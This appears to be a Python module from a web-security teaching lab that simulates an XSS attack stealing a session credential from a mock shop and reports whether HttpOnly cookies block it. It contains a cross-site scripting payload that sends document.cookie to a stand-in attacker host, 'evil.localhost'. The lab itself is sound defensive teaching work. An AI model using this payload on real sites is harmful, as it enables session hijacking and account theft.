"""XSS that steals: a script on the shop's own page reads the credential and sends it away."""

from __future__ import annotations

from .target import Outcome, Target, verdict

NAME = "xss-theft"
TITLE = "A script that steals the credential"
HOW = "A script on the shop's page reads what scripts can read, and sends it to the attacker."
MARKUP = "<script>fetch('//evil.localhost/collect?c='+encodeURIComponent(document.cookie))</script>"


def run(target: Target) -> Outcome:
    """Read document.cookie, or the variable that the page's own script keeps the token in."""
    victim = target.browser("alice")
    victim.log_in()
    if not target.inject(victim, MARKUP):
        return Outcome("blocked", "What a customer writes stays text.", ["the script does not run"])
    credential = victim.holds() or ""
    if target.transport == "bearer":
        stolen, where = victim.bearer or "", "the page's own script must hold the token"
    else:
        stolen, where = victim.jar.document_cookie(victim.host), "document.cookie"
    story = [f"a script reads {where}: {len(stolen)} bytes"]
    worked = bool(credential) and credential in stolen
    if worked:
        taken = credential
        seen = target.thief(taken).me()
        story.append(f"mallory uses it: {seen}")
        worked = seen == "alice"
    works = "The credential can be read by any script on the page, and is used elsewhere."
    return verdict(worked, works, "HttpOnly: no script reads the cookie.", story)
